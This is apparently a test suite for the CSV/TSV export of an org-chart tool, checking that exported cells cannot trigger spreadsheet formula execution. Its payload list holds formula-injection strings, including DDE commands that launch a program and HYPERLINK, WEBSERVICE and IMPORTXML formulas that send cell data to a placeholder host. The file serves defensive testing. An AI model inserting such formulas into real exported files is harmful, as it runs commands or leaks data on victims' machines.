import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Role, Scenario } from '../../../../src/chart/chart.ts';
import { marked, unmarked } from '../../../../src/formats/table/cell-marks.ts';
import { readRecords } from '../../../../src/formats/table/records.ts';
import { writeCsv, writeTsv } from '../../../../src/formats/table/write-csv.ts';
import { tableOf } from '../../../../src/formats/table/write-table.ts';
import { arbitraryTableChart, TABLE_WORDS } from '../../../support/arbitrary-table-chart.ts';

/** What spreadsheets have run, or asked to run, when somebody opened a table. */
const PAYLOADS = [
  '=1+1',
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://example.org?x="&A1,"Click")',
  '=WEBSERVICE("http://example.org")',
  '=IMPORTXML(CONCAT("http://example.org?",A1),"//a")',
  '+1+1',
  "+cmd|'/c calc'!A1",
  '-1+1',
  "-2+3+cmd|'/c calc'!A1",
  '-5; -6',
  "@SUM(1+1)*cmd|'/c calc'!A1",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  ' =1+1',
  '\u00A0=1+1',
  '\t=1+1',
  '\n=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u200F=1+1',
  '"=1+1"',
  "=1+1'",
  '=',
  '-',
  '@',
  '+',
  '-5e',
  '+44 20 7946 0000',
  '-1,000,000',
];

/** The beginning of a formula, or of what hides one; a number is none. */
function isDangerous(cell: string): boolean {
  return (
    /^(?:[\s\u200B-\u200F\u2060\uFEFF]*[=+\-@＝＋－＠]|[\t\r\n])/.test(cell) &&
    !/^[+-]?\d+(?:[.,]\d+)?$/.test(cell)
  );
}

function everywhere(text: string): Scenario {
  const role: Role = {
    id: text,
    title: text,
    person: text,
    department: text,
    accountableFor: [text, text],
    kpis: [text],
    note: text,
    extra: new Map([
      [text, text],
      ['Manager', text],
    ]),
  };
  return {
    id: 'chart',
    name: text,
    roles: [role, { id: `${text} 2`, title: text }, { id: `${text} 3`, title: text }],
    lines: [
      { manager: text, report: `${text} 2`, kind: 'solid' },
      { manager: text, report: `${text} 3`, kind: 'dotted', purpose: text },
      { manager: `${text} 2`, report: `${text} 3`, kind: 'dotted', purpose: text },
    ],
  };
}

function cellsOf(scenario: Scenario): readonly string[] {
  const table = tableOf(scenario);
  return [
    ...readRecords(writeCsv(table).slice(1), ',').rows.flat(),
    ...readRecords(writeCsv(table, ';').slice(1), ';').rows.flat(),
    ...readRecords(writeTsv(table).slice(1), '\t').rows.flat(),
  ];
}

describe('a cell of a text table', () => {
  it.each(PAYLOADS)('is not run by a spreadsheet: %j', (payload) => {
    const cells = cellsOf(everywhere(payload));
    expect(cells.length).toBeGreaterThan(40);
    expect(cells.filter(isDangerous)).toEqual([]);
  });

  it('is never run, whatever the chart', () => {
    fc.assert(
      fc.property(arbitraryTableChart(), (scenario) => {
        expect(cellsOf(scenario).filter(isDangerous)).toEqual([]);
      }),
    );
  }, 30_000);

  it('is left alone where it is a number or an ordinary text', () => {
    for (const text of [
      '-5',
      '+3.2',
      '-1,5',
      '7',
      '',
      'CEO',
      "'Tis",
      "'",
      "''",
      'a=b',
      'Head - Sales',
      'none',
    ])
      for (const medium of ['text', 'workbook'] as const) {
        expect(marked(text, 'text', medium)).toBe(text);
        expect(unmarked(text, 'text')).toBe(text);
      }
  });

  it.each(['Vacant', 'OPEN', 'not  in post', 'Eliminated', '0', '*', 'xx', "'Open"])(
    'that says %j and means it is marked where the word would mean something else',
    (word) => {
      for (const medium of ['text', 'workbook'] as const) {
        expect(marked(word, 'words', medium)).toBe(`'${word}`);
        expect(marked(word, 'text', medium)).toBe(word);
      }
    },
  );

  it('in a workbook is marked only where reading would take a mark off', () => {
    expect(marked('=1+1', 'text', 'workbook')).toBe('=1+1');
    expect(marked("'=1+1", 'text', 'workbook')).toBe("''=1+1");
  });

  it('gives back any text', () => {
    const text = fc
      .tuple(
        fc.constantFrom('', "'", "''", "' ", "'\t", '\u200B'),
        fc.constantFrom(...TABLE_WORDS, ...PAYLOADS),
      )
      .map(([before, word]) => (before + word).trim());
    const kind = fc.constantFrom('text' as const, 'words' as const);
    const medium = fc.constantFrom('text' as const, 'workbook' as const);
    fc.assert(
      fc.property(
        fc.oneof(
          text,
          fc.string().map((any) => any.trim()),
        ),
        kind,
        medium,
        (any, of, to) => {
          expect(unmarked(marked(any, of, to), of)).toBe(any);
        },
      ),
      { numRuns: 1000 },
    );
  });
});
